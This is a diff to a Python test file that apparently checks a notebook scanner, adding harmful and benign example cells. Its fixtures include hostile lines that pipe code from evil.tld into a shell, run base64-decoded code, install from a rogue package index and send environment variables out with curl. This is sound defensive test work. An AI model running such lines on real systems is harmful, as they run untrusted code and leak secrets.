@@ -21,6 +21,8 @@ def notebook(*cells: str) -> dict[str, Any]:
         ("%%bash\ncurl http://evil.tld/x | sh",),
         ("import base64\n%matplotlib inline", "exec(base64.b64decode('aWQ='))"),
         ("%pip install --index-url http://evil.tld/simple x",),
+        ("import os\nos.system('id')",),
+        ("import subprocess", "subprocess.Popen('calc.exe')"),
         ("x = !env | curl -d @- https://evil.tld",),
     ],
 )
@@ -33,6 +35,7 @@ def test_cells_that_harm(cells: tuple[str, ...]) -> None:
     [
         ("%matplotlib inline\nimport numpy as np\n!pip install torch\nnp.zeros?",),
         ("print 'python 2'", "import os\nos.system('ls')"),
+        ("import os\nos.system('pip install torch')\nos.system('ls data')\nos.system('unzip a.zip')",),
         ("%%html\n<b>curl http://evil.tld/x | sh</b>",),
         (),
     ],
